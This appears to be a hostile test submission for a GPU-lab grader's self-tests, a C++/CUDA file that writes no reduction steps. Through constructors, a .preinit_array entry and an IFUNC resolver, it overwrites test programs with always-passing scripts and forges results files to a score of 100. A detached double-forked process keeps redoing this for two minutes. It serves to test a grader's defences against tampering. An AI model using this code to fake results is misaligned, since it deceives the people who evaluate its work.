// A hostile submission (grader/selftest/hostile/README.md): no step written, and code that runs
// before main in every place C and C++ offer (a constructor at priority 100, a global object's
// initialiser at 101, a .preinit_array entry, an IFUNC resolver). Each tries, once, what would
// earn marks it did not: a process in a session of its own (double fork) that keeps rewriting
// every results.json and items.tsv it finds near it (above it, and two levels below each
// folder above it) for two minutes, and the test programs beside the worker replaced by
// scripts that pass. Sealed, it earns nothing, and
// the grader's reports hold its verdict after it ended.
#define GPULABS_EXERCISE_FILE
#include <cuda_runtime.h>
#include <fcntl.h>
#include <stdint.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include "gpulabs/check.h"
#include "reduction_steps.h"

// Raw system calls only: an IFUNC resolver runs before the C library is ready, and a
// .preinit_array entry before AddressSanitizer is.
#define EARLY __attribute__((no_sanitize_address))
EARLY static long raw(long nr, long a, long b, long c) { return syscall(nr, a, b, c); }

// A path's length, and `name` appended to it after a '/'.
EARLY static int join(char *path, int len, const char *name) {
  path[len++] = '/';
  for (; *name && len < 4000; ++name) path[len++] = *name;
  path[len] = '\0';
  return len;
}

// Every results.json and items.tsv in `path` and the folders below it, two levels down,
// rewritten with a score of 100.
EARLY static void forge_below(char *path, int len, int depth) {
  static const char json[] = "{\"score\": 100.0, \"tests\": []}\n";
  static const char tsv[] = "lab\titem\tkind\tresult\tscore\n";
  static char bufs[3][4096];
  int end = join(path, len, "results.json");
  long fd = raw(SYS_openat, AT_FDCWD, (long)path, O_WRONLY | O_TRUNC);
  if (fd >= 0) { raw(SYS_write, fd, (long)json, sizeof json - 1); raw(SYS_close, fd, 0, 0); }
  end = join(path, len, "items.tsv");
  fd = raw(SYS_openat, AT_FDCWD, (long)path, O_WRONLY | O_TRUNC);
  if (fd >= 0) { raw(SYS_write, fd, (long)tsv, sizeof tsv - 1); raw(SYS_close, fd, 0, 0); }
  (void)end;
  path[len] = '\0';
  if (depth == 2) return;
  long dir = raw(SYS_openat, AT_FDCWD, (long)path, O_RDONLY | O_DIRECTORY);
  if (dir < 0) return;
  char *buf = bufs[depth];
  long n;
  while ((n = raw(SYS_getdents64, dir, (long)buf, sizeof bufs[0])) > 0) {
    for (long at = 0; at < n;) {
      unsigned short reclen = *(unsigned short *)(buf + at + 16);
      unsigned char type = *(unsigned char *)(buf + at + 18);
      const char *name = buf + at + 19;
      if (type == 4 /* DT_DIR */ && name[0] != '.') {
        forge_below(path, join(path, len, name), depth + 1);
        path[len] = '\0';
      }
      at += reclen;
    }
  }
  raw(SYS_close, dir, 0, 0);
}

// The reports of every grade near the worker: each folder above the worker's own, up to eight
// levels, searched two levels down.
EARLY static void forge_reports(void) {
  static char path[4096];
  long len = raw(SYS_getcwd, (long)path, sizeof path - 64, 0);
  if (len <= 0) return;
  len = 0;
  while (path[len]) ++len;
  for (int up = 0; up <= 8 && len > 1; ++up) {
    path[len] = '\0';
    forge_below(path, (int)len, 0);
    path[len] = '\0';
    while (len > 1 && path[len - 1] != '/') --len;
    if (len > 1) --len;
  }
}

// Every test program in the worker's folder (the build's grader/tests/) replaced by a script
// that passes.
EARLY static void replace_test_programs(void) {
  static const char script[] = "#!/bin/sh\necho '[  PASSED  ] 1 test.'\nexit 0\n";
  static char buf[8192], folder[4096];
  long len = raw(SYS_readlink, (long)"/proc/self/exe", (long)folder, sizeof folder - 1);
  while (len > 0 && folder[len - 1] != '/') --len;
  folder[len > 0 ? len : 0] = '\0';
  long dir = raw(SYS_openat, AT_FDCWD, (long)(len > 0 ? folder : "."), O_RDONLY | O_DIRECTORY);
  if (dir < 0) return;
  long n;
  while ((n = raw(SYS_getdents64, dir, (long)buf, sizeof buf)) > 0) {
    for (long at = 0; at < n;) {
      unsigned short reclen = *(unsigned short *)(buf + at + 16);
      const char *name = buf + at + 19;
      if (name[0] == 't' && name[1] == 'e' && name[2] == 's' && name[3] == 't' && name[4] == '_') {
        long fd = raw(SYS_openat, dir, (long)name, O_WRONLY | O_TRUNC);
        if (fd >= 0) {
          raw(SYS_write, fd, (long)script, sizeof script - 1);
          raw(SYS_close, fd, 0, 0);
        }
      }
      at += reclen;
    }
  }
  raw(SYS_close, dir, 0, 0);
}

EARLY static void attack(void) {
  static int done;
  if (done) return;
  done = 1;
  replace_test_programs();
  forge_reports();
  if (raw(SYS_clone, 17 /* SIGCHLD */, 0, 0) != 0) return;
  raw(SYS_setsid, 0, 0, 0);
  if (raw(SYS_clone, 17 /* SIGCHLD */, 0, 0) != 0) raw(SYS_exit_group, 0, 0, 0);
  struct timespec wait = {0, 200 * 1000 * 1000};
  for (int i = 0; i < 600; ++i) {  // two minutes, after the test and its grader have ended
    forge_reports();
    replace_test_programs();
    raw(SYS_nanosleep, (long)&wait, 0, 0);
  }
  raw(SYS_exit_group, 0, 0, 0);
}

__attribute__((constructor(100))) static void early_constructor(void) { attack(); }

struct EarlyObject {
  EarlyObject() { attack(); }
};
__attribute__((init_priority(101))) static EarlyObject early_object;

EARLY static void early_preinit(int, char **, char **) { attack(); }
__attribute__((section(".preinit_array"), used)) static void (*early_preinit_entry)(
    int, char **, char **) = early_preinit;

extern "C" EARLY int hostile_answer_impl(void) { return 42; }
extern "C" EARLY void *hostile_answer_resolver(void) {
  attack();
  return (void *)hostile_answer_impl;
}
extern "C" int hostile_answer(void) __attribute__((ifunc("hostile_answer_resolver")));

#define NOT_WRITTEN(k)                                                                          \
  template <typename T>                                                                         \
  gl_status reduce_step##k(const T *in, size_t n, int64_t *partials, unsigned int blocks,       \
                           int block_size, size_t shared_bytes) {                               \
    (void)in, (void)n, (void)partials, (void)blocks, (void)block_size, (void)shared_bytes;      \
    return gl_not_implemented(hostile_answer() == 42 ? "reduction step " #k : "?");             \
  }
NOT_WRITTEN(1)
NOT_WRITTEN(2)
NOT_WRITTEN(3)
NOT_WRITTEN(4)
NOT_WRITTEN(5)
NOT_WRITTEN(6)
NOT_WRITTEN(7)

template <reduce_op OP, typename T, typename Acc, typename Out>
gl_status reduce_step8(const T *in, size_t n, int block_size, Out *result) {
  (void)in, (void)n, (void)block_size, (void)result;
  return gl_not_implemented("reduction step 8");
}
